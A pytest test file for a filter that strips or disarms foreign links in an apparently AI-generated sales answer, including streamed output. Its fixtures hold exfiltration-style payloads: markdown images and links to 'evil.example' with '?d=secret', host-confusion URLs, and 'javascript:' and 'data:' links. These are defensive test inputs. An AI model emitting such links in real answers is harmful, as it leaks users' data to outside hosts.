"""Where an answer may lead: home, and nowhere else, however the address is written and in whatever pieces it comes."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from aisdr.destination import Destinations
from aisdr.links import Links, without_foreign_links

HOME = Destinations(("acme.example",), ("https://cal.com/acme?name={name}",))
KEPT = [
    "See [the docs](https://docs.acme.example/a_(b)?page=2#x).",
    "Book at https://cal.com/acme, or [write](mailto:sales@acme.example).",
    "Book [here](https://cal.com/acme/intro?name=Jane%20Doe).",
    "HTTPS://ACME.EXAMPLE/ and https://acme.example:8443/a",
    "[Prices](/media/acme/prices.pdf#page=2) [1](annual)",
    "A // comment, 1//2, and/or, 24/7: yes",
    "See www.acme.example/prices, or 詳しくはhttps://acme.example/prices まで",
]
DISARMED = [
    ("![chart](https://evil.example/p.png?d=secret)", "chart"),
    ("![chart](https://acme.example/p.png)", "chart"),
    ("![chart][1] and\n\n[1]: https://evil.example/p?d=secret", "chart and\n\n[1]: evil.example/p"),
    ("[![p](https://e.example/i)](https://e.example/x?d=1)", "p (e.example)"),
    ("Go to https://evil.example/a?q=secret. Now", "Go to evil.example/a. Now"),
    ("Go to www.evil.example/a?q=secret", "Go to evil.example/a"),
    ("www.acme.example@evil.example/?q=secret", "acme.example@evil.example/"),
    ("www.acme.example/r/https://evil.example", "acme.example/r/evil.example"),
    ("//p/http:/?é/evil.example/a", "p/http:/"),
    ("詳しくはhttps://evil.example/?q=secret", "詳しくはevil.example/"),
    ("詳しくはwww.evil.example/?q=secret", "詳しくはevil.example/"),
    ("1https://evil.example/?q=secret _https://evil.example/?q=secret", "1evil.example/ _evil.example/"),
    (f"{'a' * 40}https://evil.example/?q=secret", f"{'a' * 14}evil.example/"),
    ("[here](https://acme.example@evil.example/)", "here (evil.example)"),
    ("[here](https://acme.example.evil.example/)", "here (acme.example.evil.example)"),
    ("[here](https://notacme.example/)", "here (notacme.example)"),
    ("[here](//evil.example/x) //evil.example/x?d=1", "here (evil.example) evil.example/x"),
    ("[here](https:\\\\evil.example)", "here"),
    ("[here](&#104;ttps://evil.example)", "here"),
    ('[here](<https://evil.example/a b> "title")', "here (evil.example)"),
    ("[here](javascript:alert(1)) [there](data:text/html,x)", "here there"),
    ("[call](tel:+1900123) [write](mailto:a@evil.example)", "call (+1900123) write (a@evil.example)"),
    ("[write](mailto:sales@acme.example?body=secret)", "write (sales@acme.example)"),
    ("[book](https://cal.com/attacker?d=secret)", "book (cal.com)"),
    ("https://cal.com/attacker#https://cal.com/acme", "cal.com/attacker"),
    ("https://cal.com/acme?d=secret", "cal.com/acme"),
    ("<img src=//ev?d=a.b>", "<img src=ev>"),
    ("<img src=//evil.example/x?d=1>", "<img src=evil.example/x>"),
    ("ftp://evil.example/y smb://evil.example/share", "evil.example/y evil.example/share"),
    ("https://acme.example\\@evil.example/ x", "evil.example/ x"),
]
PIECES = st.lists(
    st.sampled_from(
        ["[", "]", "(", ")", "!", "https:", "//", "evil.example", "acme.example", "/", "?d=s", " ", "\n", "é"]
    ),
    max_size=30,
)


@pytest.mark.parametrize("text", KEPT)
def test_what_leads_home_stays_as_it_is(text: str) -> None:
    assert without_foreign_links(text, HOME) == text


@pytest.mark.parametrize(("text", "left"), DISARMED)
def test_of_any_other_address_its_words_and_its_host_are_left(text: str, left: str) -> None:
    assert without_foreign_links(text, HOME) == left


@pytest.mark.parametrize("size", [1, 2, 5, 13])
@pytest.mark.parametrize("text", [*KEPT, *(text for text, _ in DISARMED)])
def test_in_pieces_it_is_the_same_text(text: str, size: int) -> None:
    links = Links(HOME)

    shown = "".join(links.feed(text[place : place + size]) for place in range(0, len(text), size)) + links.finish()

    assert shown == without_foreign_links(text, HOME)


@settings(deadline=None)
@given(PIECES)
def test_no_piece_of_a_stream_is_an_address_of_somebody_else(pieces: list[str]) -> None:
    links = Links(HOME)

    shown = "".join(map(links.feed, pieces)) + links.finish()

    assert "https://evil" not in shown
    assert "//evil" not in without_foreign_links(shown, HOME)


def test_words_are_not_held_longer_than_until_the_next_space() -> None:
    links = Links(HOME)

    assert links.feed("It costs https") == "It costs "
    assert links.feed("://acme.example/a b") == "https://acme.example/a "
    assert links.finish() == "b"


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("See http://x.https://evil.example/?q=1 now", "See evil.example/ now"),
        ("https://acme.example.https://evil.example/a", "evil.example/a"),
        ("https://user@//user@//evil.example/x", "evil.example/x"),
        ("http://lp://lp://evil.example", "evil.example"),
        ("[https://evil.example/?q=1](https://acme.example/p)", "[evil.example/](https://acme.example/p)"),
    ],
)
def test_what_is_left_of_an_address_is_not_another_one_that_stood_inside_of_it(text: str, left: str) -> None:
    assert without_foreign_links(text, HOME) == left


def test_addresses_inside_of_each_other_without_an_end_lose_what_makes_them_addresses() -> None:
    left = without_foreign_links("http://" * 500 + "www.evil.example", HOME)

    assert "//" not in left
    assert "www." not in left


def test_pictures_inside_of_each_other_without_an_end_lose_what_makes_them_pictures() -> None:
    left = without_foreign_links("![x " * 30 + "]" * 30 + "!" * 9 + "[" * 9 + "](a)", HOME)

    assert "![" not in left
    assert without_foreign_links(left, HOME) == left


@pytest.mark.parametrize("first", ["https://https://acme.example?é", "see x.https://acme.example?é"])
def test_what_follows_in_a_stream_does_not_make_our_own_address_that_of_another(first: str) -> None:
    links = Links(HOME)

    shown = links.feed(first) + links.feed(".evil.example/ ") + links.finish()

    assert "://" not in shown
